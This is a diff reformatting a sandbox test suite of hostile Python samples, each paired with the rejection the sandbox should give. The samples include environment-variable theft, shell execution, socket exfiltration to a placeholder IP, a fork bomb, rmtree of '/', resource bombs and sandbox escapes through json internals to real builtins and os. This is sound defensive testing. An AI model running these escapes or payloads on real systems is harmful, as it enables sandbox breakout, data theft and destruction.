@@ -42,7 +42,7 @@ SECRETS = "<secrets>"
 PORT = "<port>"
 MARKER = "<marker>"
 
-_LOAD_SAVE = '''
+_LOAD_SAVE = """
 
 def load(data):
     if not isinstance(data, dict):
@@ -52,7 +52,7 @@ def load(data):
 
 def save(state):
     return {"tables": dict(state["tables"]), "meta": dict(state["meta"])}
-'''
+"""
 
 
 def environment(body: str, *, imports: str = "", contract: str = _LOAD_SAVE) -> str:
@@ -109,9 +109,7 @@ def _static(name: str, category: str, description: str, source: str, *violations
     return HostileSample(name, category, description, STATIC_REJECT, source, violations=violations, **kw)
 
 
-def _runtime(
-    name: str, category: str, description: str, source: str, *errors: str, **kw: Any
-) -> HostileSample:
+def _runtime(name: str, category: str, description: str, source: str, *errors: str, **kw: Any) -> HostileSample:
     return HostileSample(name, category, description, RUNTIME_STOP, source, errors=errors, **kw)
 
 
@@ -123,22 +121,25 @@ _STATIC_SAMPLES = [
         "read_process_environment",
         "file access",
         "reads the worker's environment variables through /proc with the open() builtin",
-        environment('''
+        environment("""
 def attack(state):
     with open("/proc/self/environ", "rb") as handle:
         return {"environ": handle.read().decode("latin-1")}
-'''),
+"""),
         "use of 'open' is not allowed",
     ),
     _static(
         "write_file_with_pathlib",
         "file access",
         "writes a file outside the sandbox with pathlib instead of open()",
-        environment('''
+        environment(
+            """
 def attack(state, canary):
     Path(canary).write_text("escaped")
     return {"written": canary}
-''', imports="from pathlib import Path"),
+""",
+            imports="from pathlib import Path",
+        ),
         "import from 'pathlib' is not allowed",
         arguments={"canary": CANARY},
     ),
@@ -146,11 +147,14 @@ def attack(state, canary):
         "shell_via_subprocess",
         "process/exec",
         "runs a shell command through subprocess",
-        environment('''
+        environment(
+            """
 def attack(state, canary):
     done = subprocess.run(["sh", "-c", "id > " + canary], capture_output=True, check=False)
     return {"status": done.returncode}
-''', imports="import subprocess"),
+""",
+            imports="import subprocess",
+        ),
         "import of 'subprocess' is not allowed",
         arguments={"canary": CANARY},
     ),
@@ -158,11 +162,11 @@ def attack(state, canary):
         "os_system_through_builtins",
         "process/exec",
         "fetches the real __import__ from the __builtins__ mapping to reach os.system",
-        environment('''
+        environment("""
 def attack(state, canary):
     os_module = __builtins__["__import__"]("os")
     return {"status": os_module.system("touch " + canary)}
-'''),
+"""),
         "use of dunder name '__builtins__' is not allowed",
         "dunder string constant '__import__' is not allowed",
         arguments={"canary": CANARY},
@@ -171,30 +175,37 @@ def attack(state, canary):
         "network_exfiltration",
         "network",
         "opens a TCP connection and sends the state out",
-        environment('''
+        environment(
+            """
 def attack(state):
     with socket.create_connection(("198.51.100.7", 443), timeout=1) as conn:
         conn.sendall(repr(state).encode())
     return {"sent": True}
-''', imports="import socket"),
+""",
+            imports="import socket",
+        ),
         "import of 'socket' is not allowed",
     ),
     _static(
         "fork_bomb",
         "fork/thread bomb",
         "forks processes without bound",
-        environment('''
+        environment(
+            """
 def attack(state):
     while True:
         os.fork()
-''', imports="import os"),
+""",
+            imports="import os",
+        ),
         "import of 'os' is not allowed",
     ),
     _static(
         "thread_bomb",
         "fork/thread bomb",
         "starts busy threads without bound (threads would also dodge the main-thread alarm)",
-        environment('''
+        environment(
+            """
 def _spin():
     while True:
         pass
@@ -203,45 +214,50 @@ def _spin():
 def attack(state):
     while True:
         threading.Thread(target=_spin, daemon=True).start()
-''', imports="import threading"),
+""",
+            imports="import threading",
+        ),
         "import of 'threading' is not allowed",
     ),
     _static(
         "import_module_by_name",
         "import tricks",
         "imports a forbidden module from a string with importlib",
-        environment('''
+        environment(
+            """
 def attack(state):
     shutil = importlib.import_module("shu" + "til")
     shutil.rmtree("/", ignore_errors=True)
     return {}
-''', imports="import importlib"),
+""",
+            imports="import importlib",
+        ),
         "import of 'importlib' is not allowed",
     ),
     _static(
         "subclasses_through_mro",
         "object-graph walk",
         "reaches object through type(x).mro() (allowed) and then its __subclasses__ (denied)",
-        environment('''
+        environment("""
 def attack(state):
     root = type(0).mro()[-1]
     names = [cls.__name__ for cls in root.__subclasses__()]
     return {"classes": names}
-'''),
+"""),
         "access to dunder attribute '__subclasses__' is not allowed",
     ),
     _static(
         "traceback_frame_walk",
         "object-graph walk",
         "walks from a caught exception's traceback to the engine's frame and its globals",
-        environment('''
+        environment("""
 def attack(state):
     try:
         1 / 0
     except ZeroDivisionError as exc:
         frame = exc.__traceback__.tb_frame.f_back
         return {"globals": sorted(frame.f_globals)}
-'''),
+"""),
         "access to dunder attribute '__traceback__' is not allowed",
         "access to introspection attribute 'tb_frame' is not allowed",
         "access to introspection attribute 'f_back' is not allowed",
@@ -250,10 +266,13 @@ def attack(state):
         "wall_clock_read",
         "clock/randomness",
         "stamps rows with the host clock instead of meta['now']",
-        environment('''
+        environment(
+            """
 def attack(state):
     return {"now": time.time(), "today": dt.date.today().isoformat()}
-''', imports="import datetime as dt\nimport time"),
+""",
+            imports="import datetime as dt\nimport time",
+        ),
         "import of 'time' is not allowed",
         "clock read '.today' is not allowed",
     ),
@@ -261,10 +280,13 @@ def attack(state):
         "os_entropy",
         "clock/randomness",
         "draws identifiers from the OS entropy pool",
-        environment('''
+        environment(
+            """
 def attack(state):
     return {"id": str(uuid.uuid4()), "token": secrets.token_hex(8)}
-''', imports="import secrets\nimport uuid"),
+""",
+            imports="import secrets\nimport uuid",
+        ),
         "import of 'secrets' is not allowed",
         "import of 'uuid' is not allowed",
     ),
@@ -272,12 +294,12 @@ def attack(state):
         "exec_compiled_string",
         "import tricks",
         "compiles and executes a string to get around the checked source",
-        environment('''
+        environment("""
 def attack(state):
     code = compile("import os; os.listdir('/')", "<x>", "exec")
     exec(code)
     return {}
-'''),
+"""),
         "use of 'compile' is not allowed",
         "use of 'exec' is not allowed",
     ),
@@ -291,19 +313,19 @@ _RUNTIME_SAMPLES = [
         "cpu_arithmetic_loop",
         "CPU exhaustion",
         "an unbounded pure-Python arithmetic loop",
-        environment('''
+        environment("""
 def attack(state):
     total = 0
     while True:
         total = (total * 31 + 7) % 1000003
-'''),
+"""),
         "timeout",
     ),
     _runtime(
         "alarm_swallowed_in_finally",
         "CPU exhaustion",
         "a loop that swallows the worker's timeout with `finally: continue`, so the parent must kill it",
-        environment('''
+        environment("""
 def attack(state):
     while True:
         try:
@@ -311,25 +333,28 @@ def attack(state):
                 pass
         finally:
             continue
-'''),
+"""),
         "timeout",
     ),
     _runtime(
         "native_infinite_iterator",
         "infinite generators",
         "consumes itertools.count() inside C code (deque(maxlen=0)), which never checks for signals",
-        environment('''
+        environment(
+            """
 def attack(state):
     collections.deque(itertools.count(), maxlen=0)
     return {"done": True}
-''', imports="import collections\nimport itertools"),
+""",
+            imports="import collections\nimport itertools",
+        ),
         "timeout",
     ),
     _runtime(
         "infinite_generator_join",
         "infinite generators",
         "joins an endless Python generator of 1 MB strings",
-        environment('''
+        environment("""
 def _chunks():
     n = 0
     while True:
@@ -339,78 +364,84 @@ def _chunks():
 
 def attack(state):
     return {"size": len("".join(_chunks()))}
-'''),
+"""),
         "memory",
     ),
     _runtime(
         "huge_power",
         "huge integers",
         "computes 10**10**8 (a 330-million-bit integer)",
-        environment('''
+        environment("""
 def attack(state, exponent=10 ** 8):
     return {"mod": (10 ** exponent) % 7}
-'''),
+"""),
         "timeout",
     ),
     _runtime(
         "huge_integer_to_string",
         "huge integers",
         "formats a 100,000-digit integer (quadratic-time str conversion)",
-        environment('''
+        environment("""
 def attack(state):
     return {"digits": len(str(7 ** 120_000))}
-'''),
+"""),
         "bad_arguments",  # ValueError from the interpreter's int/str digit limit
     ),
     _runtime(
         "catastrophic_regex",
         "regex backtracking",
         "matches an exponential-backtracking pattern against a near-miss",
-        environment('''
+        environment(
+            """
 def attack(state, text="a" * 64 + "!"):
     return {"match": bool(re.match(r"^(a+)+$", text))}
-''', imports="import re"),
+""",
+            imports="import re",
+        ),
         "timeout",
     ),
     _runtime(
         "single_huge_allocation",
         "memory exhaustion",
         "asks for an 8 GiB buffer in one allocation",
-        environment('''
+        environment("""
 def attack(state):
     return {"size": len(bytearray(8 * 1024 ** 3))}
-'''),
+"""),
         "memory",
     ),
     _runtime(
         "doubling_list",
         "memory exhaustion",
         "doubles a list until the address space is exhausted",
-        environment('''
+        environment("""
 def attack(state):
     rows = [0]
     while True:
         rows = rows + rows
-'''),
+"""),
         "memory",
     ),
     _runtime(
         "decimal_precision_bomb",
         "memory exhaustion",
         "raises the decimal context precision to MAX_PREC and divides (the context is worker-wide)",
-        environment('''
+        environment(
+            """
 def attack(state):
     context = decimal.getcontext()
     context.prec = decimal.MAX_PREC
     return {"value": str(decimal.Decimal(1) / decimal.Decimal(7))}
-''', imports="import decimal"),
+""",
+            imports="import decimal",
+        ),
         "memory",
     ),
     _runtime(
         "unbounded_recursion",
         "recursion",
         "mutual recursion without a base case",
-        environment('''
+        environment("""
 def _ping(n):
     return _pong(n + 1)
 
@@ -421,44 +452,44 @@ def _pong(n):
 
 def attack(state):
     return {"depth": _ping(0)}
-'''),
+"""),
         "tool_error",  # RecursionError
     ),
     _runtime(
         "native_stack_overflow",
         "recursion",
         "half a million nested map() iterators: next() recurses in C without a depth check",
-        environment('''
+        environment("""
 def attack(state):
     chain = iter([1])
     for _ in range(500_000):
         chain = map(abs, chain)
     return {"value": next(chain)}
-'''),
+"""),
         "crash",  # SIGSEGV in the worker; the parent restarts it
     ),
     _runtime(
         "deeply_nested_output",
         "output bombs",
         "returns a list nested 100,000 levels deep",
-        environment('''
+        environment("""
 def attack(state):
     value = []
     for _ in range(100_000):
         value = [value]
     return {"value": value}
-'''),
+"""),
         "output_not_serializable",
     ),
     _runtime(
         "gigabyte_output",
         "output bombs",
         "returns 2 GB of JSON built from one shared 1 MB string (tiny in memory, huge encoded)",
-        environment('''
+        environment("""
 def attack(state):
     chunk = "x" * 1_000_000
     return {"rows": [chunk] * 2000}
-'''),
+"""),
         # Encoding runs out of the address space. orjson does not raise MemoryError then: the
         # worker dies (SIGSEGV), so today this is a crash.
         "crash",
@@ -468,39 +499,42 @@ def attack(state):
         "stderr_flood",
         "output bombs",
         "prints 64 KiB lines forever (stdout is stderr in the worker; the parent drains it)",
-        environment('''
+        environment("""
 def attack(state):
     line = "x" * 65536
     while True:
         print(line)
-'''),
+"""),
         "timeout",
     ),
     _runtime(
         "forged_protocol_frames",
         "stdout protocol corruption",
         "prints length-prefixed success frames for request ids 1-299, then fails",
-        environment('''
+        environment(
+            """
 def attack(state):
     for request_id in range(1, 300):
         body = json.dumps({"id": request_id, "ok": True, "result": {"ok": True, "output": {"forged": True}}})
         print(chr(0) * 2 + chr(len(body) // 256) + chr(len(body) % 256) + body, end="", flush=True)
     raise ValueError("the real answer is an error")
-''', imports="import json"),
+""",
+            imports="import json",
+        ),
         "bad_arguments",  # the real response; a forged frame would read as ok -> escaped
     ),
     _runtime(
         "import_time_spin",
         "CPU exhaustion",
         "loops forever while the module itself executes (before any tool exists)",
-        environment('''
+        environment("""
 def attack(state):
     return {}
 
 
 while True:
     pass
-'''),
+"""),
         "environment_rejected",
         stage="module",
     ),
@@ -508,10 +542,12 @@ while True:
         "load_memory_bomb",
         "memory exhaustion",
         "load() builds a 10-billion-element list from any state",
-        environment('''
+        environment(
+            """
 def attack(state):
     return {}
-''', contract='''
+""",
+            contract="""
 
 def load(data):
     return {"tables": {}, "meta": {}, "index": [None] * 10 ** 10}
@@ -519,7 +555,8 @@ def load(data):
 
 def save(state):
     return {"tables": state["tables"], "meta": state["meta"]}
-'''),
+""",
+        ),
         "state_rejected",
         stage="load",
     ),
@@ -527,10 +564,12 @@ def save(state):
         "save_spin",
         "CPU exhaustion",
         "the tool behaves, but save() never returns",
-        environment('''
+        environment(
+            """
 def attack(state):
     return {"ok": True}
-''', contract='''
+""",
+            contract="""
 
 def load(data):
     return dict(data)
@@ -539,7 +578,8 @@ def load(data):
 def save(state):
     while True:
         pass
-'''),
+""",
+        ),
         "environment_fault:timeout",
         stage="save",
     ),
@@ -547,7 +587,7 @@ def save(state):
         "exception_str_spin",
         "CPU exhaustion",
         "raises an exception whose __str__ loops forever, so the engine's own error formatting hangs",
-        environment('''
+        environment("""
 class Boom(Exception):
     def __str__(self):
         while True:
@@ -556,7 +596,7 @@ class Boom(Exception):
 
 def attack(state):
     raise Boom()
-'''),
+"""),
         "timeout",
     ),
     _runtime(
@@ -564,13 +604,13 @@ def attack(state):
         "object-graph walk",
         "builds '{0.__class__.__base__.__subclasses__}' at run time (the static check cannot see it) "
         "and tries to call the result, which str.format only ever renders as text",
-        environment('''
+        environment("""
 def attack(state):
     d = "_" * 2
     walk = "{0." + d + "class" + d + "." + d + "base" + d + "." + d + "subclasses" + d + "}"
     subclasses = walk.format(())
     return {"count": len(subclasses())}
-'''),
+"""),
         "tool_error",  # TypeError: 'str' object is not callable
     ),
 ]
@@ -590,7 +630,8 @@ _FIXED_ESCAPES: list[HostileSample] = [
         "real getattr/setattr with a run-time-built dunder name; a class made with 3-argument type() "
         "and a computed '__setattr__' key catches the value: json's globals -> real __builtins__ -> "
         "open() and __import__('os')",
-        environment('''
+        environment(
+            """
 def _dunder(word):
     return "_" * 2 + word + "_" * 2
 
@@ -609,7 +650,9 @@ def attack(state, canary):
     with real_builtins["open"](canary, "w") as handle:
         handle.write("escaped")
     return {"pid": os_module.getpid(), "uid": os_module.getuid()}
-''', imports="import functools\nimport json"),
+""",
+            imports="import functools\nimport json",
+        ),
         "'update_wrapper' is not allowed",
         arguments={"canary": CANARY},
     ),
@@ -619,7 +662,7 @@ def attack(state, canary):
         "`from json import decoder` passes the static check (json is allowed, decoder is public); the "
         "module proxy has no `decoder`, so the interpreter's IMPORT_FROM falls back to "
         "sys.modules['json.decoder'] and hands over the REAL module: decoder.re.enum.sys.modules['os']",
-        environment('''
+        environment("""
 from json import decoder
 
 
@@ -629,7 +672,7 @@ def attack(state, canary):
     os_module.write(handle, b"escaped")
     os_module.close(handle)
     return {"pid": os_module.getpid(), "decoder": str(decoder)}
-'''),
+"""),
         "environment_rejected",  # ImportError at import time, once the fallback is closed
         stage="module",
         arguments={"canary": CANARY},
@@ -639,12 +682,12 @@ def attack(state, canary):
         "object-graph walk",
         "type(name, bases, namespace) with a computed '__setattr__' key would define a class hook the "
         "static check never sees; the worker's builtins only allow type(obj)",
-        environment('''
+        environment("""
 def attack(state, canary):
     hooks = {"_" * 2 + "setattr" + "_" * 2: lambda self, key, value: None}
     holder = type("Holder", (), hooks)()
     return {"made": str(holder)}
-'''),
+"""),
         "tool_error",
         arguments={"canary": CANARY},
     ),
